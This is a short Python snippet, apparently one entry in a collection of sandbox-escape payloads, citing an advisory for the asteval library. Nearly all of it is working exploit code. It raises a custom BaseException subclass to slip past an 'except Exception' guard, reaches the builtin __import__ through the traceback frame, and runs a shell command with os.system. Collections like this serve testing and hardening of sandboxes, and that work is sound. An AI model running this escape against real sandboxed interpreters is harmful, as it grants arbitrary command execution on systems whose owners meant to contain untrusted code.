# Source: https://osv.dev/vulnerability/GHSA-89v8-rhwq-hf77 (asteval sandbox escape via BaseException subclasses)
# Family: traceback
# What: raises SystemExit/BaseException subclasses to escape an 'except Exception' harness
class Escape(BaseException):
    pass

try:
    raise Escape
except BaseException as e:
    e.__traceback__.tb_frame.f_builtins["__import__"]("os").system("id")
raise SystemExit(0)
